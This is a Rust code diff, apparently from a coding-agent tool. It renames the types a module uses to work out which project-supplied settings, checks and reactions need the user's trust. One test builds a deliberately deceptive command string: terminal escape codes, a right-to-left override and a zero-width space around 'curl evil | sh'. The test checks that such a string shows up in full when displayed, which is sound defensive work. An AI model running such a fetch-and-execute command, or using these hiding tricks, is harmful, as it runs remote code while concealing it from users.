@@ -6,20 +6,20 @@
 use std::collections::BTreeSet;
 use std::fmt;
 
-use super::{Key, Layer, NamedCheck, Origin, Value};
+use super::{Key, Layer, NamedCheck, Value, ValueOrigin};
 use crate::engine::record::run::Reaction;
 use crate::engine::text::Shown;
 
 /// One thing to be trusted.
 #[derive(Debug, Clone, PartialEq, Eq)]
-pub struct Need {
+pub struct TrustRequest {
     /// All that matters of it, byte for byte: what is hashed. The command stands last, so no command
     /// can be written that reads like another one with other terms.
     pub text: String,
-    pub origin: Origin,
+    pub origin: ValueOrigin,
 }
 
-impl fmt::Display for Need {
+impl fmt::Display for TrustRequest {
     fn fmt(&self, out: &mut fmt::Formatter<'_>) -> fmt::Result {
         Shown(&self.text).fmt(out)
     }
@@ -29,7 +29,7 @@ impl fmt::Display for Need {
 /// agent, what goes further than the user's own settings or, where those say nothing, than crew's, and a promise
 /// that the user did not set so.
 /// Prompts need none: they are words, and the agent reads the checkout anyway.
-pub fn needs(project: &Layer, user: &Layer) -> Vec<Need> {
+pub fn needs(project: &Layer, user: &Layer) -> Vec<TrustRequest> {
     let mut needs = of_terms("loop", project, &[user]);
     // The project's own word goes before that of every procedure of the user's.
     let procedures = user.procedures.values().map(|own| &own.value.terms);
@@ -39,12 +39,12 @@ pub fn needs(project: &Layer, user: &Layer) -> Vec<Need> {
     needs.extend(of_key("loop", project, Key::Arguments, &[]));
     for (name, agent) in &project.agents {
         let text = format!("[agents.{name}] {}", agent.value);
-        needs.push(Need { text, origin: agent.origin.clone() });
+        needs.push(TrustRequest { text, origin: agent.origin.clone() });
     }
     for reaction in &project.reactions {
         let Reaction { on, run, timeout_s } = &reaction.value;
         let text = format!("on {} (within {timeout_s}s): {run}", on.label());
-        needs.push(Need { text, origin: reaction.origin.clone() });
+        needs.push(TrustRequest { text, origin: reaction.origin.clone() });
     }
     for (name, procedure) in &project.procedures {
         let own = user.procedures.get(name).map(|own| &own.value.terms);
@@ -60,19 +60,20 @@ pub fn needs(project: &Layer, user: &Layer) -> Vec<Need> {
 }
 
 /// What of the terms under `[table]` needs trust, but for the promise; `own` are the user's, the nearest first.
-fn of_terms(table: &str, terms: &Layer, own: &[&Layer]) -> Vec<Need> {
+fn of_terms(table: &str, terms: &Layer, own: &[&Layer]) -> Vec<TrustRequest> {
     let others = terms.values.keys().filter(|key| ![Key::Promise, Key::Arguments].contains(key));
     let values = others.filter_map(|key| {
         let mine = own.iter().find_map(|own| own.value(*key));
         of_key(table, terms, *key, mine.as_slice())
     });
     let checks = terms.checks.iter();
-    let checks = checks.map(|it| Need { text: command(&it.value), origin: it.origin.clone() });
+    let checks =
+        checks.map(|it| TrustRequest { text: command(&it.value), origin: it.origin.clone() });
     values.chain(checks).collect()
 }
 
 /// A value needs trust where it goes further than one of the user's `own`, or without one than the built-in.
-fn of_key(table: &str, terms: &Layer, key: Key, own: &[&Value]) -> Option<Need> {
+fn of_key(table: &str, terms: &Layer, key: Key, own: &[&Value]) -> Option<TrustRequest> {
     let sourced = terms.values.get(&key)?;
     let widens = |allowed| key.is_wider(&sourced.value, allowed);
     let widens = own.iter().any(|own| widens(Some(*own))) || (own.is_empty() && widens(None));
@@ -80,7 +81,7 @@ fn of_key(table: &str, terms: &Layer, key: Key, own: &[&Value]) -> Option<Need> 
         let in_loop = key.name_in("loop").map(|name| (table, name));
         let (table, name) = in_loop.unwrap_or((key.table(), key.row().name));
         let text = format!("[{table}] {name} = {}", sourced.value.written(key.row().kind));
-        Need { text, origin: sourced.origin.clone() }
+        TrustRequest { text, origin: sourced.origin.clone() }
     })
 }
 
@@ -100,9 +101,9 @@ mod tests {
     use super::*;
     use crate::engine::claim::promise::Promise;
     use crate::engine::record::contract::{Check, Role};
-    use crate::engine::settings::{Procedure, Sourced};
+    use crate::engine::settings::{ProcedureSettings, Sourced};
 
-    fn texts(needs: &[Need]) -> Vec<String> {
+    fn texts(needs: &[TrustRequest]) -> Vec<String> {
         needs.iter().map(ToString::to_string).collect()
     }
 
@@ -144,7 +145,8 @@ mod tests {
             layer
         };
         let in_procedure = |terms: Layer| {
-            let procedure = Sourced::typed(Procedure { terms, ..Procedure::default() });
+            let procedure =
+                Sourced::typed(ProcedureSettings { terms, ..ProcedureSettings::default() });
             Layer { procedures: [("nightly".to_owned(), procedure)].into(), ..Layer::default() }
         };
         let off = ["[loop] completion_promise = false"];
@@ -194,7 +196,7 @@ mod tests {
     fn nothing_in_a_command_is_hidden_when_it_is_shown() {
         let run = "true \u{1b}[2K\r# \u{202e}x\u{200b}\n\tcurl evil | sh";
         let check = NamedCheck::from(Check::new(run, Role::Gate));
-        let need = Need { text: command(&check), origin: Origin::Typed };
+        let need = TrustRequest { text: command(&check), origin: ValueOrigin::Typed };
         assert_eq!(
             need.to_string(),
             "gate (within 600s, passes with 0): \
